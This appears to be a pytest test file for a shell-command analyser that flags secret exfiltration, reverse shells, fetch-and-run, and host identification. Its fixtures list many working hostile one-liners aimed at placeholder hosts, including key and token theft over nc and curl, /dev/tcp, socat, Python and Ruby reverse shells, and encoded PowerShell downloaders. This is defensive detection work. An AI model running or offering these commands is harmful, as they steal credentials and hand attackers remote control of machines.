import base64

import build
import pytest
from hypothesis import given
from hypothesis import strategies as st

from picketline.packages import shell_sends
from picketline.packages.inspect import shells
from picketline.packages.shell import commands

_HIDDEN = base64.b64encode("iex (iwr http://x.example/a)".encode("utf-16-le")).decode()


def _names(script: str) -> set[str]:
    return {name for name, _, _ in shells.told(commands(script))}


@pytest.mark.parametrize(
    "script",
    [
        "cat ~/.ssh/id_rsa | nc x.example 4444",
        "cat ~/.npmrc | base64 | curl -d @- https://x.example",
        "nc x.example 4444 < ~/.ssh/id_rsa",
        "env | curl -X POST -d @- https://x.example",
        "printenv | nc x.example 4444",
        "curl -d @$HOME/.npmrc https://x.example",
        "curl -T ~/.ssh/id_rsa ftp://x.example",
        "curl -d t=$NPM_TOKEN https://x.example",
        "curl https://x.example/$(cat ~/.npmrc | base64)",
        "tar czf /tmp/a.tgz ~/.ssh && curl -F f=@/tmp/a.tgz https://x.example",
        "cat ~/.npmrc > /dev/tcp/1.2.3.4/80",
        "scp ~/.ssh/id_rsa me@x.example:",
    ],
)
def test_secrets_that_are_sent(script: str) -> None:
    """A secret, or the whole environment, that reaches a sender by pipe, word, file or device."""
    assert "sends-secret" in _names(script)


@pytest.mark.parametrize(
    "script",
    [
        'curl -H "Authorization: token $GITHUB_TOKEN" https://api.example',
        "curl --cert ~/.ssh/id_rsa https://x.example",
        "ssh -i ~/.ssh/id_rsa x.example",
        "npm config set //r.example/:_authToken=$NPM_TOKEN",
        "set -e; curl -L https://x.example/a.tgz | tar xz",
        "env FOO=1 curl https://x.example",
        "curl -LO https://x.example/tool-$(uname -s)-$(uname -m)",
        "cat ~/.npmrc > backup; curl https://x.example",
    ],
)
def test_secrets_that_stay_or_say_who_one_is(script: str) -> None:
    """A header, a key of one's own, and secrets beside a connection are not sent as such."""
    assert not _names(script) & {"sends-secret", "identifies", "fetches-and-runs"}


@pytest.mark.parametrize(
    "script",
    [
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'",
        "exec 5<>/dev/tcp/1.2.3.4/44; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x.example 4444 > /tmp/f",
        "nc -e /bin/sh x.example 4444",
        "socat TCP:x.example:44 EXEC:/bin/sh",
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system(\"sh\")'",
        'ruby -rsocket -e \'c=TCPSocket.new("1.2.3.4",4);exec("/bin/sh -i <&3")\'',
    ],
)
def test_shells_for_a_peer(script: str) -> None:
    """A shell whose input or output is a connection."""
    assert "opens-shell" in _names(script)


@pytest.mark.parametrize(
    "script",
    [
        "wget https://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p",
        "curl -s https://x.example/p > p; sh p",
        "nc x.example 44 | sh",
        f"powershell -enc {_HIDDEN}",
        "powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example')",
        "python3 -c \"import os;os.system('curl -s https://x.example/i|sh')\"",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.example').read())\"",
    ],
)
def test_what_is_fetched_is_run(script: str) -> None:
    """Across commands, in base64, and in other languages."""
    assert "fetches-and-runs" in _names(script)


@pytest.mark.parametrize("script", ["nslookup $(whoami).x.example", "curl https://x.example/$USER"])
def test_who_and_where_one_is(script: str) -> None:
    """The names of user and machine in what is asked for."""
    assert {"identifies", "connects"} <= _names(script)


@build.law
@given(st.lists(st.sampled_from(["nc", "env", "|", "<", ">", "/dev/tcp/a/1", "$(", ")", "-e", "sh",
                                 "python", "-c", "'socket sh'", "~/.npmrc", "curl", "@", "&&"]),
                max_size=12).map(" ".join))  # fmt: skip
def test_nothing_is_raised(script: str) -> None:
    """Any words at all, and the same marks each time."""
    assert list(shell_sends.told(commands(script))) == list(shell_sends.told(commands(script)))
